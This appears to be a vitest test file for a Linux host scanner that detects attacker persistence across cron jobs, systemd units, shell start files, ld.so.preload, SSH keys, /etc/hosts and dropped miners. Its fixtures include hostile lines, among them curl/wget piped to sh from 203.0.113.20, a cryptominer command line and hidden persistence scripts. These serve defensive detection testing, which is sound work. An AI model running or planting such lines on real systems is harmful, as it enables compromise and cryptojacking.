import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { lstatSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { findingOf, makeTree, publicKey, scanTree, verdictOf } from './tree.ts';

const WALLET = `4A${'DRiLLNotAReaLWaLLet'.padEnd(93, '7')}`;
const KEY = publicKey('a');
const OTHER_KEY = publicKey('b');

describe('cron', () => {
  it('blames a line that fetches from a bare address and runs it, and not the backup beside it', async () => {
    const root = makeTree({
      '/var/spool/cron/crontabs/ann': [
        '# m h dom mon dow command',
        '*/5 * * * * (curl -fsSL http://203.0.113.20/i.sh||wget -q -O- http://203.0.113.20/i.sh)|sh >/dev/null 2>&1',
        '15 3 * * * curl -fsS -T /srv/backup/nightly.tar.gz https://backup.example.net/in/ >/dev/null 2>&1',
        '',
      ].join('\n'),
    });
    const outcome = await scanTree(root);
    const bad = findingOf(outcome, '203.0.113.20/i.sh');
    expect(bad).toMatchObject({ verdict: 'malicious', attack: ['T1053.003'], owner: 'ann' });
    expect(bad?.subject).toMatchObject({
      kind: 'file-line',
      role: 'cron-entry',
      line: { number: 2 },
      details: { user: 'ann' },
    });
    expect(verdictOf(outcome, 'backup.example.net')).toBe('benign');
    const address = outcome.findings.find(({ subject }) => subject.kind === 'connection');
    expect(address).toMatchObject({
      verdict: 'malicious',
      subject: { remoteAddress: '203.0.113.20', isNamedOnly: true },
    });
    expect(bad?.related).toContain(address?.id);
    expect(address?.related).toContain(bad?.id);
  });

  it('gives a cron.d file that holds nothing else as a whole, with the hidden script that it starts', async () => {
    const root = makeTree({
      '/etc/cron.d/perfclean':
        'SHELL=/bin/sh\n@reboot root /var/tmp/.xdiag/upd a\n* * * * * root /var/tmp/.xdiag/upd b >/dev/null 2>&1\n',
      '/var/tmp/.xdiag/upd': { text: '#!/bin/sh\nexec /tmp/.X19-unix/kinsing\n', mode: 0o755 },
      '/etc/cron.d/hostwatch':
        '@reboot root /opt/hostwatch/bin/ship\n30 2 * * * root "/srv/jobs/nightly export.sh"\n',
      '/opt/hostwatch/bin/ship': { text: '#!/bin/sh\nexit 0\n', mode: 0o755 },
      '/srv/jobs/nightly export.sh': { text: '#!/bin/sh\nexit 0\n', mode: 0o755 },
    });
    const outcome = await scanTree(root);
    const whole = findingOf(outcome, '/etc/cron.d/perfclean');
    expect(whole).toMatchObject({ verdict: 'malicious', subject: { kind: 'file', role: 'cron-file' } });
    expect(whole?.places).toHaveLength(2);
    const script = findingOf(outcome, '/var/tmp/.xdiag/upd');
    expect(script).toMatchObject({ verdict: 'malicious', subject: { kind: 'file', role: 'script' } });
    expect(whole?.related).toContain(script?.id);
    expect(script?.related).toContain(whole?.id);
    for (const text of ['hostwatch', 'nightly export']) {
      expect(
        outcome.findings.filter(({ title, verdict }) => title.includes(text) && verdict !== 'benign'),
      ).toEqual([]);
    }
  });

  it('keeps a cron.d file that also holds an ordinary line, and blames the line alone', async () => {
    const root = makeTree({
      '/etc/cron.d/mixed': '* * * * * root /dev/shm/.a/upd\n0 4 * * * root /usr/local/bin/report\n',
      '/dev/shm/.a/upd': { text: '#!/bin/sh\n:\n', mode: 0o755 },
    });
    const outcome = await scanTree(root);
    expect(findingOf(outcome, '/dev/shm/.a/upd')?.verdict).toBe('malicious');
    expect(findingOf(outcome, 'mixed line 1')).toMatchObject({
      subject: { kind: 'file-line' },
      verdict: 'malicious',
    });
    expect(findingOf(outcome, 'mixed line 2')?.verdict).toBe('benign');
  });
});

describe('units', () => {
  const agent =
    '[Service]\nExecStart=/opt/hostwatch/bin/agent --config /etc/hostwatch.conf\nRestart=always\n[Install]\nWantedBy=multi-user.target\n';

  it('blames a look-alike that starts a hidden program, and not an agent that no package brought', async () => {
    const root = makeTree({
      '/etc/systemd/system/dbus-org.freedesktop.resolved.service':
        '[Service]\nExecStart=-/var/tmp/.font-cache/upd unit\nRestart=always\n',
      '/etc/systemd/system/multi-user.target.wants/dbus-org.freedesktop.resolved.service': {
        link: '/etc/systemd/system/dbus-org.freedesktop.resolved.service',
      },
      '/var/tmp/.font-cache/upd': { text: '#!/bin/sh\n:\n', mode: 0o755 },
      '/etc/systemd/system/hostwatch-agent.service': agent,
      '/opt/hostwatch/bin/agent': { text: '#!/bin/sh\n:\n', mode: 0o755 },
    });
    const outcome = await scanTree(root);
    const unit = findingOf(outcome, 'dbus-org.freedesktop.resolved.service');
    expect(unit).toMatchObject({
      verdict: 'malicious',
      subject: { kind: 'unit', isEnabled: true, user: null },
    });
    expect(unit?.attack).toContain('T1543.002');
    expect(unit?.reasons.map(({ code }) => code)).toContain('look-alike');
    expect(verdictOf(outcome, 'hostwatch-agent')).toBe('benign');
    expect(verdictOf(outcome, '/opt/hostwatch/bin/agent')).toBe('not mentioned');
  });

  it('blames the timer of a malicious service, a user unit, and a drop-in, each as what it is', async () => {
    const root = makeTree({
      '/etc/systemd/system/upd.service':
        '[Service]\nExecStart=/bin/sh -c "curl -s http://203.0.113.20/a | bash"\n',
      '/etc/systemd/system/upd.timer': '[Timer]\nOnCalendar=minutely\n',
      '/home/ann/.config/systemd/user/pulse.service': '[Service]\nExecStart=/dev/shm/.p/pulse\n',
      '/etc/systemd/system/ssh.service.d/override.conf': '[Service]\nExecStartPre=/tmp/.rsync/x\n',
      '/etc/systemd/system/nginx.service.d/limits.conf': '[Service]\nLimitNOFILE=65536\n',
    });
    const outcome = await scanTree(root);
    expect(findingOf(outcome, 'upd.timer')).toMatchObject({ verdict: 'malicious', attack: ['T1053.006'] });
    expect(findingOf(outcome, 'pulse.service')).toMatchObject({
      verdict: 'malicious',
      subject: { user: 'ann' },
    });
    expect(findingOf(outcome, 'override.conf')).toMatchObject({
      verdict: 'malicious',
      subject: { kind: 'file', role: 'unit-drop-in' },
    });
    expect(verdictOf(outcome, 'limits.conf')).toBe('not mentioned');
  });

  it('reads a masked unit, a link in a circle and a FIFO without blame or hanging', async () => {
    const root = makeTree({
      '/etc/systemd/system/masked.service': { link: '/dev/null' },
      '/etc/systemd/system/loop.service': { link: '/etc/systemd/system/loop.service' },
      '/etc/cron.d/loop': { link: '/etc/cron.d/loop' },
    });
    execFileSync('mkfifo', [
      join(root, 'etc/systemd/system/pipe.service'),
      join(root, 'etc/cron.d/pipe'),
      join(root, 'etc/hosts'),
    ]);
    const outcome = await scanTree(root);
    expect(outcome.findings.filter(({ verdict }) => verdict === 'malicious')).toEqual([]);
  });
});

describe('shell start files', () => {
  it('blames an added line that starts something hidden, and no alias, export or version manager', async () => {
    const root = makeTree({
      '/etc/skel/.bashrc': '# ~/.bashrc\n[ -z "$PS1" ] && return\n',
      '/root/.bashrc': [
        '# ~/.bashrc',
        '[ -z "$PS1" ] && return',
        'export NVM_DIR="$HOME/.nvm"',
        '[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"',
        'eval "$(starship init bash)"',
        'source ~/.cargo/env',
        "alias backups='ls -lt /srv/backup | head'",
        '(/var/tmp/.ICEd-unix/upd login >/dev/null 2>&1 &)',
        'export HISTSIZE=5000',
        '',
      ].join('\n'),
    });
    const outcome = await scanTree(root);
    const bad = outcome.findings.filter(({ subject }) => subject.kind === 'file-line');
    expect(bad).toHaveLength(1);
    expect(bad[0]).toMatchObject({
      verdict: 'malicious',
      subject: { role: 'shell-start-line', line: { number: 8 } },
    });
    expect(bad[0]?.attack).toEqual(['T1546.004']);
  });
});

describe('preload', () => {
  it('blames a library that no package owns in a hidden place', async () => {
    const root = makeTree({
      '/etc/ld.so.preload': '/usr/local/lib/.h/libsystem.so\n',
      '/usr/local/lib/.h/libsystem.so': 'x',
    });
    const outcome = await scanTree(root);
    expect(findingOf(outcome, 'ld.so.preload')).toMatchObject({
      verdict: 'malicious',
      subject: { role: 'preload-entry' },
    });
  });

  it('does not call an allocator or a monitoring agent malicious', async () => {
    const root = makeTree({
      '/etc/ld.so.preload': '/usr/local/lib/libjemalloc.so.2\n',
      '/usr/local/lib/libjemalloc.so.2': 'x',
    });
    expect(verdictOf(await scanTree(root), 'ld.so.preload')).not.toBe('malicious');
  });
});

describe('authorized keys', () => {
  const keys = `${KEY} mdrfckr\n\n# a comment\ncommand="/usr/local/bin/receive",no-pty ${OTHER_KEY} backup@bastion\n`;

  it('blames a comment that intruders are known by, and leaves an unknown key to a person', async () => {
    const root = makeTree({ '/root/.ssh/authorized_keys': keys });
    const outcome = await scanTree(root);
    expect(findingOf(outcome, 'mdrfckr')).toMatchObject({ verdict: 'malicious', attack: ['T1098.004'] });
    const forced = findingOf(outcome, 'backup@bastion');
    expect(['unknown', 'benign']).toContain(forced?.verdict);
    expect(forced?.subject).toMatchObject({
      line: { number: 4 },
      details: { comment: 'backup@bastion', type: 'ssh-ed25519' },
    });
  });

  it('gives the fingerprint that ssh-keygen gives', async () => {
    const root = makeTree({ '/root/.ssh/authorized_keys': `${KEY} a\n` });
    const outcome = await scanTree(root);
    const said = execFileSync('ssh-keygen', ['-lf', join(root, 'root/.ssh/authorized_keys')], {
      encoding: 'utf8',
    });
    const subject = outcome.findings[0]?.subject;
    expect(
      outcome.findings.flatMap((finding) =>
        finding.subject.kind === 'file-line' ? [finding.subject.details.fingerprint] : [],
      ),
    ).toContain(said.split(' ')[1]);
    expect(subject).toBeDefined();
  });

  it('never blames the key that the responder is logged in with, whatever its comment', async () => {
    const root = makeTree({ '/root/.ssh/authorized_keys': keys });
    const first = findingOf(await scanTree(root), 'mdrfckr');
    const fingerprint = first?.subject.kind === 'file-line' ? first.subject.details.fingerprint : undefined;
    const responder = {
      peerAddress: null,
      peerPort: null,
      localPort: null,
      account: 'root',
      uid: 0,
      protectedPids: [],
    };
    const outcome = await scanTree(root, { responder: { ...responder, keyFingerprint: fingerprint ?? '' } });
    expect(findingOf(outcome, 'mdrfckr')).toMatchObject({ verdict: 'benign' });
    expect(findingOf(outcome, 'mdrfckr')?.reasons[0]?.code).toBe('responder');
  });

  it('blames a key that came with malicious entries to an account that nobody logs in with, and not the one of a person', async () => {
    const root = makeTree({
      '/var/spool/news/.ssh/authorized_keys': `${KEY} x\n`,
      '/home/ann/.ssh/authorized_keys': `${OTHER_KEY} ann@laptop\n`,
      '/etc/cron.d/perfclean': '* * * * * root /dev/shm/.a/b\n',
    });
    const outcome = await scanTree(root);
    expect(findingOf(outcome, '/var/spool/news')?.verdict).toBe('malicious');
    expect(['unknown', 'benign']).toContain(verdictOf(outcome, 'ann@laptop'));
  });
});

describe('/etc/hosts', () => {
  it('blames names of protection and of pools that are sunk, and no ordinary line', async () => {
    const root = makeTree({
      '/etc/hosts': [
        '127.0.0.1 localhost',
        '198.51.100.4 logs.example.net logs',
        '0.0.0.0 update.aegis.aliyun.com',
        '127.0.0.1 pool.minexmr.com',
        '127.0.1.1 ledgerdb.internal',
        '',
      ].join('\n'),
    });
    const outcome = await scanTree(root);
    expect(verdictOf(outcome, 'aegis')).toBe('malicious');
    expect(verdictOf(outcome, 'minexmr')).toBe('malicious');
    expect(outcome.findings).toHaveLength(
      outcome.findings.filter(({ subject }) => subject.kind !== 'file-line').length + 2,
    );
  });

  it('does not blame a long list of blocked names that somebody keeps', async () => {
    const list = Array.from({ length: 60 }, (_, index) => `0.0.0.0 ad${index}.example.com`);
    const root = makeTree({ '/etc/hosts': [...list, '0.0.0.0 xmr.nanopool.org', ''].join('\n') });
    const outcome = await scanTree(root);
    expect(
      outcome.findings.filter(({ verdict, subject }) => verdict !== 'benign' && subject.kind === 'file-line'),
    ).toEqual([]);
  });
});

describe('dropped files', () => {
  it('blames a miner by place and name, and neither an X socket folder nor a build', async () => {
    const root = makeTree({
      '/tmp/.X25-unix/xmrig': { text: '\x7fELF stratum+tcp:// donate-level', mode: 0o755 },
      '/tmp/go-build1/b001/exe/main': { text: '\x7fELF', mode: 0o755 },
      '/tmp/notes.txt': 'milk\n',
      '/tmp/clone/.git/hooks/pre-push': { text: '#!/bin/sh\n:\n', mode: 0o755 },
    });
    const outcome = await scanTree(root);
    const miner = findingOf(outcome, 'xmrig');
    expect(miner).toMatchObject({
      verdict: 'malicious',
      subject: { kind: 'file', role: 'dropped-executable' },
    });
    const bytes = readFileSync(join(root, 'tmp/.X25-unix/xmrig'));
    expect(miner?.subject).toMatchObject({
      file: { sha256: createHash('sha256').update(bytes).digest('hex') },
    });
    expect(outcome.findings.filter(({ subject }) => subject.kind === 'file')).toHaveLength(1);
  });

  it('never makes an interpreter or a system file the thing to take away', async () => {
    const root = makeTree({
      '/etc/cron.d/x': `* * * * * root /usr/bin/node /dev/shm/.a/m.js -o stratum+tcp://203.0.113.9:3333 -u ${WALLET} < /etc/passwd\n`,
      '/usr/bin/node': { text: '\x7fELF', mode: 0o755 },
      '/dev/shm/.a/m.js': 'setInterval(() => {}, 1000)\n',
    });
    const outcome = await scanTree(root);
    expect(findingOf(outcome, '/dev/shm/.a/m.js')?.verdict).toBe('malicious');
    expect(
      outcome.findings
        .filter(({ subject }) => subject.kind === 'file')
        .map(({ title }) => title)
        .toSorted(),
    ).toEqual(['/dev/shm/.a/m.js', '/etc/cron.d/x']);
  });
});

describe('packages', () => {
  it('clears what a package owns unchanged, by lists with merged /usr, and blames what was changed', async () => {
    const good = '#!/bin/sh\necho stock\n';
    const md5 = createHash('md5').update(good).digest('hex');
    const root = makeTree({
      '/usr/sbin/stock': { text: good, mode: 0o755 },
      '/usr/sbin/altered': { text: '#!/bin/sh\ncurl -s http://203.0.113.20/a | sh\n', mode: 0o755 },
      '/var/lib/dpkg/info/tools.list': '/.\n/sbin\n/sbin/stock\n/sbin/altered\n',
      '/var/lib/dpkg/info/tools.md5sums': `${md5}  sbin/stock\n${md5}  sbin/altered\n`,
      '/var/lib/dpkg/status': 'Package: tools\n',
      '/etc/cron.d/a':
        '* * * * * root /usr/sbin/stock\n*/2 * * * * root /usr/sbin/altered; curl http://203.0.113.20/b | bash\n',
    });
    const outcome = await scanTree(root, { packageManager: 'apt' });
    expect(verdictOf(outcome, '/usr/sbin/stock')).toBe('benign');
    const bad = findingOf(outcome, '/usr/sbin/altered');
    expect(bad?.verdict).toBe('malicious');
    expect(outcome.findings.find(({ title }) => title === '/usr/sbin/stock')).toBeUndefined();
  });
});

describe('any host', () => {
  it('survives names of raw bytes, lines of a megabyte and folders where files belong', async () => {
    const root = makeTree({
      '/etc/cron.d/big': `* * * * * root ${'x'.repeat(1_200_000)}\n`,
      '/etc/ld.so.preload/file': '',
      '/home/ann/.bashrc/file': '',
    });
    writeFileSync(Buffer.concat([Buffer.from(`${root}/tmp-`), Buffer.from([0xff, 0xfe])]), '');
    const folder = Buffer.concat([Buffer.from(`${root}/etc/cron.d/`), Buffer.from([0x62, 0xff])]);
    writeFileSync(folder, '* * * * * root /dev/shm/.a/b\n');
    const outcome = await scanTree(root);
    expect(outcome.findings.find(({ title }) => title.includes('\udcff'))?.verdict).toBe('malicious');
    expect(outcome.unknowns.map(({ what }) => what)).toContain('/etc/cron.d/big');
  });

  it('says the same id for the same line after another line above it went', async () => {
    const line = '* * * * * root /dev/shm/.a/b';
    const root = makeTree({ '/etc/crontab': `# one\n# two\n${line}\n` });
    const before = findingOf(await scanTree(root), '/dev/shm/.a/b')?.id;
    writeFileSync(join(root, 'etc/crontab'), `${line}\n`);
    expect(findingOf(await scanTree(root), '/dev/shm/.a/b')?.id).toBe(before);
  });

  it('changes nothing, not even the time of last access', async () => {
    const root = makeTree({ '/etc/crontab': '* * * * * root /dev/shm/.a/b\n', '/dev/shm/.a/b': 'x' });
    symlinkSync('/dev/shm/.a/b', join(root, 'etc/link'));
    const state = (): string[] =>
      readdirSync(root, { recursive: true, encoding: 'utf8' })
        .toSorted()
        .map((path) => {
          const { mode, size, mtimeMs, ctimeMs, ino } = lstatSync(join(root, path));
          return [path, mode, size, mtimeMs, ctimeMs, ino].join(' ');
        });
    const before = state();
    await scanTree(root);
    expect(state()).toEqual(before);
  });
});
